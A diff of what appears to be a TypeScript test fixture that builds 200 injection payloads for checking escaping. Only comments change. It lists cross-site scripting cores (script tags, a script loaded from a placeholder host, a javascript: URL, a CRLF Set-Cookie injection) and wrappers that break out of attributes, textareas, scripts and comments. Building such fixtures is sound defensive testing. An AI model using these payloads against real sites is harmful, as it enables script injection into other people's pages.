@@ -1,4 +1,6 @@
-/** What would do something if it were read as anything but text: each sets `pwned`, asks another host, or hides the page. */
+/**
+ * Harmful if read as anything but text: each sets `pwned`, requests another host or hides the page.
+ */
 const CORES: readonly string[] = [
   '<script>pwned=1</script>',
   '<script src=//example.invalid/x.js></script>',
@@ -42,7 +44,7 @@ const CORES: readonly string[] = [
   'javascript:pwned=1 //\u2028pwned=1\r\nSet-Cookie: pwned=1\u001b[2J',
 ]
 
-/** The same from inside other things: an attribute, a text area, a script, a comment. */
+/** Prefixes that break out of an attribute, a text area, a script or a comment. */
 const WAYS_OUT: readonly ((core: string) => string)[] = [
   core => core,
   core => `">${core}`,
@@ -57,7 +59,7 @@ export interface Payload {
   readonly text: string
 }
 
-/** Two hundred, each with its own mark. */
+/** 200 payloads with different marks. */
 export const PAYLOADS: readonly Payload[] = WAYS_OUT.flatMap((wayOut, way) =>
   CORES.map((core, i) => {
     const mark = `n${String(way * CORES.length + i).padStart(3, '0')}:`
